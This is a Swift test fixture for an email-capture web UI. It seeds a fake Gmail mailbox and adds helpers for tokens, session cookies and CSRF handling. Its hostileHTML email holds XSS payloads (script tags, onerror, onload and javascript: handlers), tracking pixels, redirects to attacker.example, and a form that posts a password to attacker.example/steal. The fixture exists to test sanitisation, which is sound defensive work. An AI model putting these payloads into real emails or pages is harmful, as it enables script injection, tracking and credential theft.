import CaptureParsing
@testable import CaptureWeb
import FakeGmail
import FakeGmailBridge
import Foundation
import GmailCapture
import Hummingbird
import HummingbirdTesting
import Logging
import Testing

/// A small demo firm captured end to end (in-process FakeGmail, the real sync engine, a SQLite file), plus
/// one hostile HTML message with an inline (cid) PNG delivered into alex's mailbox before the sync. Built
/// once per test process; tests that change settings use their own teammates' rows or restore them.
struct WebFirm: Sendable {
    let dir: URL
    let runtime: CaptureRuntime
    let clock: VirtualCaptureClock
    let hostileThread: Int64
    let hostileEmail: Int64
    let inlinePart: Int64

    static let alex = "alex@firm.example", kim = "kim@firm.example", sam = "sam@firm.example", lee = "lee@firm.example"
    static let pat = "pat@firm.example"
    static let png = Data(
        base64Encoded: "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")!

    static let hostileHTML = """
        <html><head><meta http-equiv="refresh" content="0;url=http://attacker.example/"><base href="http://attacker.example/">
        <style>@import url(http://evil.example/x.css); p { color: red }</style></head>
        <body onload="parent.document.title='pwned'">
        <p>Quarterly numbers attached.</p>
        <script>window.__pwned = 1; alert(1)</script>
        <img src="http://tracker.example/pixel.gif" alt="tracker">
        <img src="x" onerror="alert(2)">
        <img src="cid:logo@lumenridge.example" alt="logo">
        <a href="javascript:alert(3)">click</a>
        <a href="https://example.org/ok?a=1&amp;b=2">the deck</a>
        <form action="http://attacker.example/steal"><input name="pw"><button>go</button></form>
        <svg onload="alert(4)"><script>alert(5)</script></svg>
        <div style="background:url(http://tracker.example/bg.png)">styled</div>
        </body></html>
        """

    static func hostileRaw() -> [UInt8] {
        let png = png.base64EncodedString()
        let html = hostileHTML.replacingOccurrences(of: "\n", with: "\r\n")
        let raw = """
            From: Maya <maya@lumenridge.example>\r
            To: Alex <alex@firm.example>\r
            Subject: Hostile: numbers and a logo\r
            Date: Tue, 05 Nov 2024 10:00:00 +0000\r
            Message-ID: <hostile-web-1@lumenridge.example>\r
            MIME-Version: 1.0\r
            Content-Type: multipart/related; boundary="rel"\r
            \r
            --rel\r
            Content-Type: text/html; charset=utf-8\r
            \r
            \(html)\r
            --rel\r
            Content-Type: image/png\r
            Content-Transfer-Encoding: base64\r
            Content-ID: <logo@lumenridge.example>\r
            Content-Disposition: inline; filename="logo.png"\r
            \r
            \(png)\r
            --rel--\r

            """
        return Array(raw.utf8)
    }

    static let shared = Task<WebFirm, any Error> { try await build() }
    static func get() async throws -> WebFirm { try await shared.value }

    static func build() async throws -> WebFirm {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("web-firm-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        var config = CaptureConfig()
        config.integrationEnabled = true
        config.databasePath = dir.appendingPathComponent("crm.db").path
        config.workspaceDomain = DemoFirm.domain
        config.apiBaseURL = "http://fakegmail.web"
        config.rateUnitsPerSecond = 5_000
        config.attachmentDirectory = dir.appendingPathComponent("attachments").path
        let firm = DemoFirm(conversations: 40, seed: 2026)
        let fake = FakeGmail(options: .init(seed: 2026, quota: .classic, baseURL: config.apiBaseURL))
        try await firm.seed(fake)
        _ = try await fake.insertMessage(user: alex, raw: hostileRaw(), internalDate: 1_730_800_800_000)
        let clock = await VirtualCaptureClock.linked(to: fake)
        let transport = InProcessFakeTransport(fake: fake)
        let tokens = try ServiceAccountTokenProvider(keyJSON: try await fake.serviceAccountKeyJSON(), transport: transport, clock: clock)
        let runtime = try CaptureRuntime.build(config, transport: transport, tokens: tokens, clock: clock)
        for tm in DemoFirm.teammates {
            try await runtime.directory.addUser(
                email: tm, name: String(tm.split(separator: "@")[0]).capitalized, admin: tm.hasPrefix("alex"))
        }
        _ = try await runtime.directory.importInvestors(firm.investors, workspaceDomain: DemoFirm.domain)
        for tm in DemoFirm.teammates { try await runtime.database.upsertAccount(email: tm, userId: nil) }
        _ = try await runtime.gmail!.engine.syncAll(concurrency: 2)
        guard let hit = try await runtime.readModel.message(rfcId: "hostile-web-1@lumenridge.example", for: .operator, surface: .cli)
        else { throw WebFirmError.missing("the hostile message was not captured") }
        guard let part = hit.message.attachments.first, part.state == .stored else {
            throw WebFirmError.missing("the inline image was not stored: \(hit.message.attachments)")
        }
        return WebFirm(
            dir: dir, runtime: runtime, clock: clock, hostileThread: hit.threadId, hostileEmail: hit.message.id, inlinePart: part.id)
    }

    enum WebFirmError: Error { case missing(String) }

    func web(options: WebUI.Options = .init(relationshipsAsOf: Date(timeIntervalSince1970: 1_735_000_000))) async throws -> WebUI {
        try await WebUI(
            runtime: runtime, runNow: { _ in }, options: options,
            logger: Logger(label: "web-tests", factory: { _ in SwiftLogNoOpLogHandler() }))
    }

    func app(_ web: WebUI) -> some ApplicationProtocol {
        let router = Router()
        router.addRoutes(web.collection())
        return Application(router: router)
    }

    /// A fresh API token for a teammate.
    func token(_ email: String) async throws -> String {
        try await APITokenAuthenticator(directory: runtime.directory, clock: clock).issue(forUserEmail: email).token
    }
}

/// Test-side helpers for reading responses.
extension TestResponse {
    var text: String { String(buffer: body) }
    /// The `gc_session` value a Set-Cookie header carries.
    var sessionCookie: String? {
        for field in headers where field.name == .setCookie {
            let first = field.value.split(separator: ";")[0]
            let kv = first.split(separator: "=", maxSplits: 1)
            if kv.count == 2, kv[0] == "gc_session" { return String(kv[1]) }
        }
        return nil
    }
}

/// The hidden `csrf` value of a page's forms.
func csrfToken(in html: String) -> String? {
    guard let r = html.range(of: "name=\"csrf\" value=\"") else { return nil }
    let rest = html[r.upperBound...]
    return rest.firstIndex(of: "\"").map { String(rest[..<$0]) }
}

/// Signs in with a token over the client; returns the session cookie header value.
func signIn(_ client: some TestClientProtocol, token: String) async throws -> String {
    let body = "token=" + (token.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? token)
    let cookie = try await client.execute(
        uri: "/session", method: .post, headers: [.contentType: "application/x-www-form-urlencoded"], body: ByteBuffer(string: body)
    ) { r in
        #expect(r.status == .seeOther)
        return r.sessionCookie
    }
    return "gc_session=\(try #require(cookie))"
}
